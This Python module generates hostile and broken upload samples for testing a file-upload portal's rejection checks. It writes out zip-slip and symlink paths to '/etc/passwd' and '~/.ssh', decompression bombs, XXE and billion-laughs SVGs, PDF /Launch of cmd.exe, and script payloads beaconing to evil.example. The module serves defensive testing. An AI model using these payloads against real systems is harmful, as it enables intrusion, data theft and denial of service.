"""Files that mean harm or cannot be used: ten or more of each kind, with the words that each is to be answered with."""

import io
import stat
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from functools import partial

from pypdf import PdfWriter
from pypdf.generic import ArrayObject, DictionaryObject, NameObject, TextStringObject

from . import making as make
from .sample import Sample

Variants = Iterator[tuple[str, Callable[[], bytes]]]
KINDS: dict[str, tuple[str, Callable[[], Variants]]] = {}
# Django's own reader of forms cuts these out of names before anybody sees them.
CLEANED_ON_THE_WAY = {"turned writing", "unseen letters", "control letters", "path as name"}
CUT, LOCKED, MACROS = "it is cut short", "it is protected with a password", "it holds macros"


def kind(name: str, words: str):
    def kept(variants: Callable[[], Variants]):
        KINDS[name] = (words, variants)
        return variants

    return kept


def samples() -> Iterator[Sample]:
    for name, (words, variants) in KINDS.items():
        for file_name, content in variants():
            yield Sample(name, file_name, content, words)


def one_of_each() -> list[Sample]:
    found: dict[str, Sample] = {}
    for sample in samples():
        found.setdefault(sample.kind, sample)
    return list(found.values())


def _cut(whole: Callable[[], bytes], share: float) -> Callable[[], bytes]:
    def made() -> bytes:
        content = whole()
        return content[: int(len(content) * share)]

    return made


def _text() -> bytes:
    return b"Purpose, audience, ideas.\n"


# --- cut short or empty ---------------------------------------------------------------------------


@kind("empty", "it is empty")
def _empty() -> Variants:
    for ending in ("txt", "pdf", "jpg", "png", "docx", "zip", "mp4", "mp3", "svg", "xls"):
        yield f"nothing.{ending}", bytes


SHARES = (0.3, 0.5, 0.6, 0.7, 0.8, 0.85, 0.9, 0.95, 0.97, 0.99)


@kind("cut JPEG", CUT)
def _cut_jpeg() -> Variants:
    for n, share in enumerate(SHARES):
        whole = partial(make.picture, "JPEG", size=(160, 120), seed=n, progressive=bool(n % 2))
        yield f"photo{n}.jpg", _cut(whole, max(share, 0.5))


@kind("cut PNG", CUT)
def _cut_png() -> Variants:
    for n, share in enumerate(SHARES):
        yield f"poster{n}.png", _cut(partial(make.picture, "PNG", seed=n), share)


@kind("cut GIF", CUT)
def _cut_gif() -> Variants:
    for n, share in enumerate(SHARES):
        yield f"banner{n}.gif", _cut(partial(make.picture, "GIF", seed=n), share)


@kind("cut WebP, BMP or TIFF", CUT)
def _cut_others() -> Variants:
    for form, ending in (("WEBP", "webp"), ("BMP", "bmp"), ("TIFF", "tif")):
        for n, share in enumerate(SHARES[3:7]):
            yield f"sketch{n}.{ending}", _cut(partial(make.picture, form, seed=n), share)


@kind("cut PDF", CUT)
def _cut_pdf() -> Variants:
    for n, share in enumerate(SHARES):
        yield f"storyboard{n}.pdf", _cut(partial(make.pdf, seed=n, pages=1 + n % 3), share)


@kind("cut zip or document", CUT)
def _cut_zip() -> Variants:
    for n, share in enumerate((0.5, 0.8, 0.95)):
        yield (
            f"site{n}.zip",
            _cut(partial(make.packed, {"index.html": make.drawing(), "logo.png": make.picture()}), share),
        )
        yield f"sheet{n}.xlsx", _cut(partial(make.office, "xlsx"), 0.6 + share * 0.3)
        yield f"essay{n}.docx", _cut(partial(make.office, "docx"), 0.6 + share * 0.3)
        yield f"talk{n}.odp", _cut(partial(make.open_document, "odp"), share)


@kind("cut video", CUT)
def _cut_video() -> Variants:
    for ending in ("mp4", "mov", "avi", "wmv", "flv"):
        for share in (0.5, 0.9):
            yield f"titles{share}.{ending}", _cut(partial(make.video, ending), share)


@kind("cut sound", CUT)
def _cut_sound() -> Variants:
    for ending in ("wav", "ogg", "m4a", "wma", "mp3"):
        for share in (0.4, 0.9):
            yield f"jingle{share}.{ending}", _cut(partial(make.sound, ending), share)
    yield "tune.mid", _cut(make.midi, 0.8)


@kind("cut old Office file", CUT)
def _cut_old() -> Variants:
    for ending, whole in (("doc", make.word), ("xls", make.excel), ("ppt", make.slides), ("fla", make.word)):
        for share in (0.5, 0.8, 0.9):
            yield f"work{share}.{ending}", _cut(whole, share)


@kind("cut drawing, RTF or Photoshop file", CUT)
def _cut_texts() -> Variants:
    for share in SHARES[2:6]:
        yield f"logo{share}.svg", _cut(make.drawing, share + 0.1)
        yield f"plan{share}.rtf", _cut(make.rtf, share)
        yield f"layers{share}.psd", _cut(partial(make.photoshop, names=bytes(500)), share / 3)


# --- locked ---------------------------------------------------------------------------------------


def _lock_pdf(algorithm: str, writer: PdfWriter) -> None:
    writer.encrypt("secret", algorithm=algorithm)


@kind("locked PDF", LOCKED)
def _locked_pdf() -> Variants:
    for n in range(10):
        algorithm = ("RC4-40", "RC4-128")[n % 2]
        yield f"report{n}.pdf", partial(make.pdf, pages=1 + n // 2, change=partial(_lock_pdf, algorithm))


@kind("locked new Office file", LOCKED)
def _locked_office() -> Variants:
    for ending in ("docx", "xlsx", "pptx", "ppsx"):
        for n in range(3):
            streams = {"EncryptionInfo": bytes(40), "EncryptedPackage": bytes(5000 * n + 10)}
            yield f"work{n}.{ending}", partial(make.ole, streams)


@kind("locked old Office file", LOCKED)
def _locked_old() -> Variants:
    for n in range(4):
        more = {f"Extra{n}": bytes(n * 3000)}
        yield f"essay{n}.doc", partial(make.word, locked=True, more=more)
        yield f"budget{n}.xls", partial(make.excel, (0x002F, struct.pack("<HHH", n % 2, 1, 1)), more=more)
        yield f"talk{n}.ppt", partial(make.slides, locked=True, more=more)


@kind("locked OpenDocument", LOCKED)
def _locked_open() -> Variants:
    for ending in ("odt", "ods", "odp"):
        for n in range(3):
            yield f"work{n}.{ending}", partial(make.open_document, ending, text=f"{n}", locked=True)
        yield f"sealed.{ending}", partial(make.open_document, ending, more={"encrypted-package": bytes(300)})


def _flagged(files: dict[str, bytes], bit: int) -> bytes:
    """The zip, with a bit of its flags set at every entry, in both lists."""
    content = bytearray(make.packed(files))
    for mark, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        found = -1
        while (found := content.find(mark, found + 1)) >= 0:
            content[found + at] |= bit
    return bytes(content)


@kind("locked zip", LOCKED)
def _locked_zip() -> Variants:
    for n in range(10):
        files = {f"page{m}.html": b"<p>secret" * 30 for m in range(n + 1)}
        yield f"site{n}.zip", partial(_flagged, files, (0x01, 0x41)[n % 2])


# --- macros ---------------------------------------------------------------------------------------


@kind("macros in new Office file", MACROS)
def _macros() -> Variants:
    places = {
        "docx": "word/vbaProject.bin",
        "xlsx": "xl/vbaProject.bin",
        "pptx": "ppt/vbaProject.bin",
        "ppsx": "ppt/VBAPROJECT.BIN",
    }
    renamed = {
        "docx": "word.document",
        "xlsx": "excel.sheet",
        "pptx": "powerpoint.presentation",
        "ppsx": "powerpoint.slideshow",
    }
    for ending, place in places.items():
        yield f"work.{ending}", partial(make.office, ending, more={place: make.ole({"VBA/dir": b"x"})})
        main = f"application/vnd.ms-{renamed[ending]}.macroEnabled.main+xml"
        yield f"renamed.{ending}", partial(make.office, ending, main=main)
    yield (
        "old macros.xlsx",
        partial(make.office, "xlsx", more={"xl/macrosheets/sheet1.xml": b"<macrosheet/>"}),
    )
    yield (
        "older macros.xlsx",
        partial(make.office, "xlsx", more={"xl/intlMacrosheets/sheet1.xml": b"<macrosheet/>"}),
    )
    yield (
        "in a zip.zip",
        lambda: make.packed({"a.docx": make.office("docx", more={"word/vbaProject.bin": b"x"})}),
    )


@kind("macros in old Office file", MACROS)
def _old_macros() -> Variants:
    yield "letter.doc", partial(make.word, more={"Macros/VBA/dir": b"x", "Macros/VBA/_VBA_PROJECT": b"x"})
    for n in range(3):
        yield (
            f"letter{n}.doc",
            partial(
                make.word, more={"Macros/PROJECT": b"", f"Macros/VBA/Module{n}": b"", "Macros/VBA/dir": b""}
            ),
        )
        yield (
            f"sums{n}.xls",
            partial(
                make.excel, more={"_VBA_PROJECT_CUR/VBA/dir": b"", f"_VBA_PROJECT_CUR/VBA/Sheet{n}": b""}
            ),
        )
        yield f"show{n}.ppt", partial(make.slides, macros=True, more={f"Extra{n}": b""})
    auto = struct.pack("<IBB", 4096, 2, 1) + b"\x06\x00Macro1"
    yield "auto open.xls", partial(make.excel, (0x0085, auto))


@kind("macros in OpenDocument", MACROS)
def _open_macros() -> Variants:
    for ending in ("odt", "ods", "odp"):
        for place in (
            "Basic/Standard/Module1.xml",
            "Scripts/python/run.py",
            "Scripts/beanshell/run.bsh",
            "Basic/Other/Auto.xml",
        ):
            yield f"{place.split('/')[1]}.{ending}", partial(make.open_document, ending, more={place: b"run"})


# --- too large, once opened -----------------------------------------------------------------------


def _png_of(width: int, height: int) -> bytes:
    def chunk(name: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + name + data + struct.pack(">I", zlib.crc32(name + data))

    head = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)
    pixels = zlib.compress(bytes(min(width * height // 8, 20_000_000)), 1)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + chunk(b"IDAT", pixels) + chunk(b"IEND", b"")


def _patched(content: bytes, at: int, form: str, *numbers: int) -> bytes:
    changed = bytearray(content)
    struct.pack_into(form, changed, at, *numbers)
    return bytes(changed)


def _jpeg_of(width: int, height: int) -> bytes:
    content = make.picture("JPEG")
    return _patched(content, content.index(b"\xff\xc0") + 5, ">HH", height, width)


@kind("picture that unpacks without end", "million pixels")
def _picture_bombs() -> Variants:
    for side in (9_000, 20_000, 30_000):
        yield f"poster{side}.png", partial(_png_of, side, side)
        yield f"photo{side}.jpg", partial(_jpeg_of, side, side)
        yield f"banner{side}.gif", partial(lambda s: _patched(make.picture("GIF"), 6, "<HH", s, s), side)
        yield f"scan{side}.bmp", partial(lambda s: _patched(make.picture("BMP"), 18, "<ii", s, s), side)
    for side in (9_000, 16_000):
        yield f"flat{side}.webp", partial(lambda s: _patched(make.picture("WEBP"), 26, "<HH", s, s), side)


@kind("zip that unpacks without end", "it unpacks to far more")
def _zip_bombs() -> Variants:
    for n in range(7):
        yield f"site{n}.zip", partial(lambda n: make.packed({"big.txt": bytes(12_000_000 * (n + 1))}), n)
    yield "many.zip", lambda: make.packed({f"{n}.html": bytes(1_000_000) for n in range(30)})
    yield "report.docx", lambda: make.office("docx", more={"word/media/image1.bmp": bytes(60_000_000)})
    yield "report.ods", lambda: make.open_document("ods", more={"Pictures/1.bmp": bytes(60_000_000)})
    yield "source.fla", lambda: make.packed({"library.bin": bytes(40_000_000)})


@kind("zip in a zip that unpacks without end", "it unpacks to far more")
def _nested_bombs() -> Variants:
    for n in range(10):

        def made(n=n) -> bytes:
            inner = make.packed({f"{m}.txt": bytes(4_000_000) for m in range(4)})
            return make.packed({f"part{m}.zip": inner for m in range(n + 1)})

        yield f"parts{n}.zip", made


@kind("zip of zips of zips", "archives within archives within archives")
def _deep() -> Variants:
    for n in range(10):

        def made(n=n) -> bytes:
            content = make.packed({"plan.txt": b"words"})
            for level in range(2 + n):
                content = make.packed({f"level{level}.zip": content, "note.txt": b"more"})
            return content

        yield f"deep{n}.zip", made


@kind("zip of too many files", "it holds more than 5,000 files")
def _many() -> Variants:
    for n in range(10):
        yield (
            f"pages{n}.zip",
            partial(lambda n: make.packed({f"{m}.txt": b"" for m in range(5_001 + n * 500)}), n),
        )


def _overlapping(copies: int, size: int) -> bytes:
    """Many lines in the list of contents that stand for the same packed bytes."""
    content = make.packed({"a.txt": bytes(size)})
    start = content.index(b"PK\x01\x02")
    line = content[start : content.index(b"PK\x05\x06")]
    end = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, copies, copies, len(line) * copies, start, 0)
    return content[:start] + line * copies + end


@kind("zip whose files share bytes", "share their bytes")
def _overlap() -> Variants:
    for copies in (2, 3, 5, 10, 50, 100, 300, 1000, 2000, 4000):
        yield f"site{copies}.zip", partial(_overlapping, copies, 100_000)


@kind("over the limit", "and a file may have")
def _over() -> Variants:
    for ending in ("txt", "pdf", "jpg", "png", "zip", "mp4", "mp3", "docx", "psd", "wav"):
        yield f"large.{ending}", partial(bytes, 20_000_001)


# --- archives that harm ---------------------------------------------------------------------------


@kind("zip that climbs out", "would be unpacked outside its folder")
def _slip() -> Variants:
    for path in ("../evil.html", "site/../../evil.html", "/etc/passwd", "..\\evil.html", "site\\..\\..\\evil.html",
                 "C:\\Windows\\evil.txt", "c:evil.txt", "\\\\server\\share\\evil.txt", "a/b/c/../../../../x.txt",
                 "..", "//evil/x.html"):  # fmt: skip
        yield "site.zip", partial(make.packed, {"index.html": b"<p>", path: b"evil"})


def _special(mode: int, target: bytes, system: int = 3) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w") as archive:
        entry = zipfile.ZipInfo("link")
        entry.create_system, entry.external_attr = system, (mode | 0o777) << 16
        archive.writestr(entry, target)
    return kept.getvalue()


@kind("zip of links", "is a link, not a file")
def _links() -> Variants:
    for target in (b"/etc/passwd", b"../../secret", b"/proc/self/environ", b"..", b"/", b"~/.ssh"):
        yield "site.zip", partial(_special, stat.S_IFLNK, target)
    for mode in (stat.S_IFIFO, stat.S_IFCHR, stat.S_IFBLK, stat.S_IFSOCK):
        yield "site.zip", partial(_special, mode, b"")


@kind("zip with programs", "is a program")
def _programs_inside() -> Variants:
    for ending in (
        "exe",
        "dll",
        "bat",
        "cmd",
        "scr",
        "msi",
        "ps1",
        "vbs",
        "jar",
        "sh",
        "lnk",
        "hta",
        "docm",
        "EXE",
    ):
        yield (
            f"game-{ending}.zip",
            partial(make.packed, {"index.html": b"<p>", f"files/run.{ending}": b"run"}),
        )


HEADS = (
    b"MZ\x90\x00",
    b"MZP\x00",
    b"\x7fELF",
    b"\xfe\xed\xfa\xcf",
    b"\xcf\xfa\xed\xfe",
    b"\xca\xfe\xba\xbe",
    b"dex\n035\0",
)


@kind("zip with disguised programs", "is a program")
def _disguised_inside() -> Variants:
    for n, head in enumerate(HEADS):
        yield f"pictures{n}.zip", partial(make.packed, {"photo.jpg": head + bytes(300)})
        yield (
            f"deep{n}.zip",
            partial(lambda h: make.packed({"in.zip": make.packed({"a.txt": h + bytes(9)})}), head),
        )


@kind("zip with other archives", "is an archive that cannot be looked into")
def _archives_inside() -> Variants:
    for ending in ("rar", "7z", "gz", "tar", "tgz", "xz", "cab", "bz2", "ace", "zst"):
        yield f"parts-{ending}.zip", partial(make.packed, {f"part.{ending}": b"whatever"})


@kind("zip with misleading names", "in it cannot be taken: its name")
def _names_inside() -> Variants:
    for name in ("photo\u202egpj.exe", "a\u200bb.txt", "work.pdf.exe", "photo.exe.jpg", "con.txt", "aux/index.html",
                 "line\nbreak.txt", "bell\x07.txt", "a\u2066b.html", "lpt1.png", "tab\tin.txt"):  # fmt: skip
        yield "site.zip", partial(make.packed, {"index.html": b"<p>", name: b"words"})


@kind("zip that lies about its contents", "it is damaged")
def _lying() -> Variants:
    for n in range(5):

        def wrong_sum(n=n) -> bytes:
            content = make.packed({"a.txt": b"words" * 100 * (n + 1)})
            return _patched(content, content.index(b"PK\x01\x02") + 16, "<I", n)

        def wrong_size(n=n) -> bytes:
            content = make.packed({"a.txt": b"words" * 100 * (n + 1)})
            return _patched(content, content.index(b"PK\x01\x02") + 24, "<I", 3 + n)

        yield f"sum{n}.zip", wrong_sum
        yield f"size{n}.zip", wrong_size


# --- names ----------------------------------------------------------------------------------------


@kind("program", "are not taken")
def _programs() -> Variants:
    for ending in (
        "exe",
        "bat",
        "com",
        "scr",
        "msi",
        "ps1",
        "vbs",
        "jar",
        "sh",
        "js",
        "html",
        "php",
        "docm",
        "rar",
        "lnk",
    ):
        yield f"work.{ending}", partial(bytes, b"MZ\x90\x00" + bytes(100))


@kind("program behind another ending", "as disguised programs do")
def _double() -> Variants:
    for name in ("work.pdf.exe", "photo.jpg.scr", "plan.txt.bat", "clip.mp4.com", "essay.docx.js.exe", "a.png.lnk",
                 "b.zip.msi", "c.pdf      .exe", "d.jpg.ps1", "E.PDF.EXE", "f.txt.vbs"):  # fmt: skip
        yield name, _text


@kind("program before another ending", "as disguised programs do")
def _hidden() -> Variants:
    for name in ("photo.exe.txt", "work.bat.txt", "a.scr.txt", "b.cmd.txt", "c.ps1.csv", "d.vbs.txt", "e.EXE.txt",
                 "f.jar.txt", "g.hta.txt", "h.exe .txt", "i.msi.v2.txt"):  # fmt: skip
        yield name, _text


@kind("turned writing", "turn the direction of writing")
def _turned() -> Variants:
    for letter in "\u061c\u200e\u200f\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
        yield f"photo{letter}txt.txt", _text
    yield "harmless\u202etxt.exe", _text


@kind("unseen letters", "letters that cannot be seen")
def _unseen() -> Variants:
    for letter in "\u00ad\u034f\u180e\u200b\u200c\u200d\u2060\u2063\u3164\ufeff\uffa0":
        yield f"plan{letter}.txt", _text


@kind("control letters", "cannot be printed")
def _control() -> Variants:
    for letter in "\n\r\t\x00\x01\x07\x08\x1b\x7f\x85\u2028\ue000":
        yield f"plan{letter}.txt", _text


@kind("name of a device", "kept for a device")
def _devices() -> Variants:
    for name in ("con", "CON", "prn", "aux", "nul", "com1", "COM9", "lpt1", "Lpt9", "con.old", "nul "):
        yield f"{name}.txt", _text


@kind("path as name", "its name holds a path")
def _paths() -> Variants:
    for name in ("../plan.txt", "/etc/plan.txt", "..\\plan.txt", "C:\\plan.txt", "c:plan.txt", "a/b.txt", "a\\b.txt",
                 "\\\\server\\plan.txt", "....//plan.txt", "./plan.txt", "folder/../../plan.txt"):  # fmt: skip
        yield name, _text


@kind("name too long", "longer than 150 letters")
def _long() -> Variants:
    for n in range(10):
        yield f"{'plan ' * (30 + n)}.txt", _text


# --- not what they say ----------------------------------------------------------------------------


@kind("other content than its name says", "but its content is")
def _renamed() -> Variants:
    page, program = b"<!DOCTYPE html><html><script>alert(1)</script></html>", b"MZ\x90\x00" + bytes(400)
    for ending in ("pdf", "jpg", "png", "gif", "zip", "mp4", "wav", "mp3", "odt"):
        yield f"page.{ending}", partial(bytes, page)
    for ending in ("pdf", "jpg", "webp", "ogg", "txt", "svg"):
        yield f"program.{ending}", partial(bytes, program)


@kind("zip called a document", "it is an archive but not")
def _not_documents() -> Variants:
    for ending in ("docx", "xlsx", "pptx", "ppsx"):
        yield f"site.{ending}", partial(make.packed, {"index.html": b"<p>hello"})
        yield (
            f"typed.{ending}",
            partial(make.packed, {"[Content_Types].xml": b"<Types/>", "index.html": b"<p>"}),
        )
        other = "xlsx" if ending != "xlsx" else "docx"
        main = make.DIALECT + make.MAIN[other][1]
        yield f"other.{ending}", partial(make.office, ending, main=main)


@kind("garbage under a good head", "it is damaged")
def _garbage() -> Variants:
    heads = {"pdf": b"%PDF-1.7\n", "doc": b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"}
    for n in range(5):
        yield f"work{n}.pdf", partial(lambda n: heads["pdf"] + bytes(range(n, 200)) * 9 + b"\n%%EOF", n)
        yield (
            f"work{n}.doc",
            partial(lambda n: heads["doc"] + bytes(22) + b"\x09\x00" + bytes(12) + bytes(3000 + n), n),
        )
    yield "song.mp3", partial(bytes, b"ID3\x04\x00\x00\x00\x00\x00\x00" + b"words " * 99)


# --- documents that start something ---------------------------------------------------------------


@kind("document that fetches from the web", "from the web")
def _fetches() -> Variants:
    for ending, folder in (("docx", "word"), ("xlsx", "xl"), ("pptx", "ppt"), ("ppsx", "ppt")):
        for what, target in (
            ("attachedTemplate", "https://evil.example/t.dotm"), ("oleObject", "http://evil.example/x.html!"),
            ("frame", "ftp://evil.example/f"),
        ):  # fmt: skip
            more = {f"{folder}/_rels/settings.xml.rels": make.relation(what, target)}
            yield f"{what}.{ending}", partial(make.office, ending, more=more)
    yield "letter.rtf", partial(make.rtf, r"{\*\template http://evil.example/t.dot}")


@kind("RTF with programs", "embedded objects")
def _rtf_programs() -> Variants:
    for n in range(3):
        for inside in (
            r"{\object\objocx{\*\objdata 0105}}",
            r"{\object\objemb\objupdate{\*\objdata 0105}}",
            r"{\object\objemb{\*\objclass Package}{\*\objdata 01}}",
            r"{\object{\*\objclass Equation.3}}",
        ):
            yield f"plan{n}.rtf", partial(make.rtf, "words " * n * 100 + inside)


def _scripted(script: str, writer: PdfWriter) -> None:
    action = _action("/JavaScript", "/JS", script)
    listed = ArrayObject([TextStringObject("run"), action])
    names = DictionaryObject({NameObject("/JavaScript"): DictionaryObject({NameObject("/Names"): listed})})
    writer.root_object[NameObject("/Names")] = names


def _opening(script: str, writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = _action("/JavaScript", "/JS", script)


def _action(kind: str, key: str, value: str) -> DictionaryObject:
    return DictionaryObject({NameObject("/S"): NameObject(kind), NameObject(key): TextStringObject(value)})


@kind("PDF with scripts", "scripts that run")
def _pdf_scripts() -> Variants:
    for n in range(5):
        script = f"app.alert('{n}'); this.submitForm('http://evil.example/{n}');"
        yield f"form{n}.pdf", partial(make.pdf, seed=n, change=partial(_scripted, script))
        yield f"opening{n}.pdf", partial(make.pdf, seed=n, change=partial(_opening, script))


def _launching(spelt: str, writer: PdfWriter) -> None:
    writer.root_object[NameObject("/OpenAction")] = _action(spelt, "/F", "cmd.exe")


def _launch_spelt_otherwise(letter: int) -> bytes:
    name = b"Launch"
    spelt = name[:letter] + b"#%02x" % name[letter] + name[letter + 1 :]
    return make.pdf(change=partial(_launching, "/Launch")).replace(b"/Launch", b"/" + spelt)


@kind("PDF that starts programs", "starts other programs")
def _pdf_launch() -> Variants:
    for n in range(5):
        yield f"guide{n}.pdf", partial(make.pdf, seed=n, change=partial(_launching, "/Launch"))
    for letter in range(6):
        yield f"spelt{letter}.pdf", partial(_launch_spelt_otherwise, letter)


def _attaching(name: str, writer: PdfWriter) -> None:
    writer.add_attachment(name, b"MZ\x90\x00")


@kind("PDF with files attached", "other files attached")
def _pdf_attached() -> Variants:
    for name in ("run.exe", "a.pdf", "b.docm", "c.js", "d.zip", "e.bat", "f.html", "g.lnk", "h.txt", "i.vbs"):
        yield f"with-{name[0]}.pdf", partial(make.pdf, change=partial(_attaching, name))


@kind("drawing with entities", "it defines entities")
def _entities() -> Variants:
    for n in range(5):
        laughs = "".join(f'<!ENTITY a{m} "{f"&a{m - 1};" * 10 if m else "ha"}">' for m in range(n + 2))
        yield (
            f"laughs{n}.svg",
            partial(make.drawing, "<text>&a1;</text>", before=f"<!DOCTYPE svg [{laughs}]>"),
        )
        outside = f'<!DOCTYPE svg [<!ENTITY x SYSTEM "file:///etc/passwd{n}">]>'
        yield f"outside{n}.svg", partial(make.drawing, "<text>&x;</text>", before=outside)


# --- what is taken, because here it cannot run ----------------------------------------------------

RUNS = "fetch('/ran-here');window.ran=1;new Image().src='http://evil.example/out';alert(1)"
PAGE = f'<!DOCTYPE html><html><body onload="{RUNS}"><script>{RUNS}</script><img src=x onerror="{RUNS}"></body></html>'


def inert() -> Iterator[Sample]:
    """Scripts that are taken as a drawing, as text, or behind a picture: none may run from the portal's own origin."""
    inside = {
        "script": f"<script>{RUNS}</script>",
        "handler": f'<rect width="9" height="9" onload="{RUNS}"/>',
        "foreign": f'<foreignObject><body xmlns="http://www.w3.org/1999/xhtml" onload="{RUNS}"/></foreignObject>',
        "outside": '<image href="http://evil.example/out.png" width="9" height="9"/>',
        "linked": '<script href="http://evil.example/out.js"/>',
    }
    for name, part in inside.items():
        yield Sample("inert", f"{name}.svg", partial(make.drawing, part))
    for ending in ("txt", "csv"):
        yield Sample("inert", f"page.{ending}", PAGE.encode)
        yield Sample("inert", f"script.{ending}", f"{RUNS}//".encode)
        yield Sample("inert", f"wide.{ending}", PAGE.encode().decode().encode)
    for form, ending in (("JPEG", "jpg"), ("PNG", "png"), ("GIF", "gif"), ("BMP", "bmp")):
        yield Sample(
            "inert", f"page-behind.{ending}", partial(lambda f: make.picture(f) + PAGE.encode(), form)
        )
        yield Sample(
            "inert",
            f"zip-behind.{ending}",
            partial(lambda f: make.picture(f) + make.packed({"a.html": PAGE.encode()}), form),
        )
    yield Sample("inert", "gif-as-script.gif", lambda: make.picture("GIF") + f"*/=1;{RUNS}".encode())
    yield Sample("inert", "page-behind.mp3", lambda: make.sound("mp3") + PAGE.encode())
    yield Sample("inert", "page-behind.pdf", lambda: make.pdf() + PAGE.encode())
    yield Sample(
        "inert", "site.zip", lambda: make.packed({"index.html": PAGE.encode(), "js/run.js": RUNS.encode()})
    )
    yield Sample("inert", "film.swf", lambda: make.flash(tail=PAGE.encode()))
